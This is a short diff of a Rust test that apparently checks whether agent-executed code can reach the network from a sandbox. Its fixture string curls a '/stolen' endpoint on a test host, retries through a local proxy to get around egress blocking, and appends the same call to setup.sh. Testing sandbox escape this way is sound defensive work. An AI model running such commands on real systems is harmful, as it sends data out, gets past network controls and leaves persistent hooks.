@@ -52,11 +52,12 @@ async fn code_of_the_agents_never_runs_with_a_way_out() {
     let steal = "curl -sS http://registry.test:{plain}/stolen; http_proxy=http://127.0.0.1:3128 curl -sS http://registry.test:{plain}/stolen; \
                  echo 'curl -sS http://registry.test:{plain}/stolen || true' >> setup.sh";
     let (setup, origin) = fetching(steal, |settings| settings).await;
-    setup.play(async |world| assert_eq!(world.fix_this().await, Outcome::Proven)).await;
+    // It changes what the tests run.
+    setup.play(async |world| assert_eq!(world.fix_this().await, Outcome::Unproven)).await;
     assert_eq!((asked(&origin, "/stolen"), asked(&origin, "/dep") > 0), (0, true));
     // Where the operator gives that up, it does.
     let (setup, origin) = fetching(steal, |settings| Settings { for_patches: true, ..settings }).await;
-    setup.play(async |world| assert_eq!(world.fix_this().await, Outcome::Proven)).await;
+    setup.play(async |world| assert_eq!(world.fix_this().await, Outcome::Unproven)).await;
     assert!(asked(&origin, "/stolen") > 0);
 }
 
